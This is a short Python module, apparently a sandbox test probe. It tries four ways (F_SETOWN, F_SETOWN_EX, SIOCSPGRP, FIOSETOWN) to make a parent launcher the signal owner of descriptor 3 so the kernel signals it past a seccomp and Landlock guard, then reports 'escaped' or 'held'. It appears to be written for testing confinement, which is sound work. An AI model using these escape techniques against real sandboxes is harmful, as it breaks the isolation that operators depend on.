"""Makes the launcher the owner of a descriptor, so that the kernel itself signals it.

guard: seccomp+landlock
ways: F_SETOWN F_SETOWN_EX SIOCSPGRP FIOSETOWN
"""

import ctypes
import fcntl
import os
import signal
import struct
import time

F_SETSIG, F_SETOWN_EX, FIOSETOWN, SIOCSPGRP = 10, 15, 0x8901, 0x8902
libc = ctypes.CDLL(None)
parent = os.getppid()


def owned(way):
    """Has the next message on descriptor 3 told to its owner by a signal."""
    way()
    fcntl.fcntl(3, F_SETSIG, signal.SIGCONT)
    fcntl.fcntl(3, fcntl.F_SETFL, fcntl.fcntl(3, fcntl.F_GETFL) | os.O_ASYNC)
    fcntl.fcntl(3, fcntl.F_SETFL, fcntl.fcntl(3, fcntl.F_GETFL) & ~os.O_ASYNC)
    return fcntl.fcntl(3, fcntl.F_GETOWN) == parent


WAYS = {
    "F_SETOWN": lambda: fcntl.fcntl(3, fcntl.F_SETOWN, parent),
    "F_SETOWN_EX": lambda: fcntl.fcntl(3, F_SETOWN_EX, struct.pack("ii", 1, parent)),
    "SIOCSPGRP": lambda: fcntl.ioctl(3, SIOCSPGRP, struct.pack("i", parent)),
    "FIOSETOWN": lambda: fcntl.ioctl(3, FIOSETOWN, struct.pack("i", parent)),
}


def attack():
    got = []
    for name, way in WAYS.items():
        try:
            if owned(way):
                got.append(name)
        except OSError:
            pass
    return "escaped: " + " ".join(got) if got else "held"
